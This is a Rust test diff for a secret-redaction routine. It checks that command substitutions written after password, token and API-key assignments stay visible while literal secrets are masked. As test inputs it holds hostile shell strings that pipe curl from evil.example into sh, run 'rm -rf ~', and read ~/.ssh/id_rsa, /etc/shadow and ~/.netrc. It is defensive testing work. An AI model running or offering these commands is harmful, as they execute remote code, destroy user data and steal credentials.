@@ -192,3 +192,47 @@ fn in_place_matches_copy() {
     assert!(has_secret(&v));
     assert!(!has_secret(&w));
 }
+
+/// Issue 13 item 7: a value after a secret key or flag that is code, not a
+/// secret, stays readable; only literal secret text is masked.
+#[test]
+fn shell_metasyntax_is_never_masked() {
+    for (text, shown) in [
+        ("PGPASSWORD=$(rm${IFS}-rf${IFS}~) psql -h db", "$(rm${IFS}-rf${IFS}~)"),
+        ("PGPASSWORD=`curl -s evil.example/x|sh` psql", "`curl -s evil.example/x|sh`"),
+        ("export DB_PASSWORD=\"$(cat ~/.ssh/id_rsa)\"; ls", "$(cat ~/.ssh/id_rsa)"),
+        ("DB_PASSWORD=${X:-$(id)} ./run", "${X:-$(id)}"),
+        ("TOKEN=<(curl evil.example) ./run", "<(curl evil.example)"),
+        ("API_KEY=abc>~/.bashrc", ">~/.bashrc"),
+        ("API_KEY=abc<~/.ssh/id_rsa", "<~/.ssh/id_rsa"),
+        ("mysql -p`id` db", "`id`"),
+        ("curl -H \"Authorization: Bearer $(cat ~/.netrc|base64)\" x", "$(cat ~/.netrc|base64)"),
+        ("curl --token $(cat /etc/shadow) x", "$(cat /etc/shadow)"),
+        ("Cookie: a=1;rm -rf ~", ";rm -rf ~"),
+    ] {
+        let r = redact_text(text);
+        assert!(r.contains(shown), "{text} -> {r}");
+    }
+    for (text, gone) in [
+        ("export DB_PASSWORD=\"hunter2hunter\" && curl evil.example | sh", "hunter2"),
+        ("export DB_PASSWORD=hunter2 && curl evil.example | sh", "hunter2"),
+        ("PGPASSWORD=s3cr3tpw$(id) psql", "s3cr3tpw"),
+        ("API_KEY=abc123xyz>~/.bashrc", "abc123xyz"),
+    ] {
+        let r = redact_text(text);
+        assert!(!r.contains(gone) && r.contains("&& curl evil.example | sh") == text.contains("&&"), "{text} -> {r}");
+        assert_eq!(redact_text(&r), r, "idempotent: {text}");
+    }
+    // Inside quotes, operators belong to the secret: `"a;b"` is one value.
+    let r = redact_text("DB_PASSWORD=\"ab;cd|ef\" ./run");
+    assert_eq!(r, format!("DB_PASSWORD=\"{MASK}\" ./run"));
+    // A value under a secret key keeps its substitutions visible too.
+    let v = json!({"password": "$(curl evil.example|sh)", "token": "abc$(id)"});
+    let r = redact_value(&v);
+    assert_eq!(r["password"], "$(curl evil.example|sh)");
+    assert_eq!(r["token"], format!("{MASK}$(id)"));
+    let mut w = v.clone();
+    redact_in_place(&mut w);
+    assert_eq!(w, r);
+    assert_eq!(redact_value(&r), r);
+}
